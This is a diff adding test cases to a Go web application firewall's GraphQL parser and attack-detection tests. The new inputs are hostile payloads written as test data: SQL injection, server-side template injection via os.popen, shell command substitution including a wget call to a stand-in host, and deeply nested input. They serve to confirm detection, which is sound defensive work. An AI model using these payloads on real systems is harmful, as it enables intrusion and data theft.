@@ -3,6 +3,7 @@ package waf
 import (
 	"encoding/json"
 	"slices"
+	"strings"
 	"testing"
 )
 
@@ -27,6 +28,18 @@ func TestGraphQLTexts(t *testing.T) {
 		{``, nil, false},
 		{`query`, nil, false},
 		{`{ a <script> }`, nil, false},
+		{`query Q($ids: [[ID!]!]! = [[1, -2.5e+3], []] @d, $in: In = {a: {}, b: [RED, null, true]}) @live { b: a(ids: $ids, in: {a: $in}) @skip(if: false) { ... @x { c } ...F @y ... on T @z { d } } }`, nil, true},
+		{`{a 1} union select user,password from users -- {}`, nil, false},
+		{`{{self.__init__.__globals__.os.popen(request.args.a).read()}}`, nil, false},
+		{`{$(cat etc)}`, nil, false},
+		{`{ system(chr(99).chr(97).chr(116)) }`, nil, false},
+		{`{ a(b: 1-1) }`, nil, false},
+		{`{ a(b: 1.a.b) }`, nil, false},
+		{`{ a(b: [1) }`, nil, false},
+		{`{ a() }`, nil, false},
+		{`{}`, nil, false},
+		{strings.Repeat("{a", MaxDepth) + strings.Repeat("}", MaxDepth), nil, true},
+		{strings.Repeat("{a", 30000), nil, false},
 	} {
 		if got, ok := graphQLTexts(c.text); ok != c.ok || ok && !slices.Equal(got, c.want) {
 			t.Errorf("%s: %q, %v", c.text, got, ok)
@@ -54,6 +67,9 @@ func TestFirewall_GraphQL(t *testing.T) {
 		"a string":   {body("{ user(name: \""+attack+"\") { id } }", "x"), Attack},
 		"a comment":  {body("{ user { id } # "+attack+"\n }", "x"), Attack},
 		"no GraphQL": {body(attack, "x"), Attack},
+		"in braces":  {body("{a 1} union select user,password from users -- {}", "x"), Attack},
+		"a command":  {body("{ $(wget evil.example) }", "x"), Attack},
+		"a template": {body("{{self.__init__.__globals__.os.popen(request.args.a).read()}}", "x"), Attack},
 	} {
 		if v := post(t, f, "application/json", c.body); v.Result != c.want {
 			t.Errorf("%s: %+v", name, v)
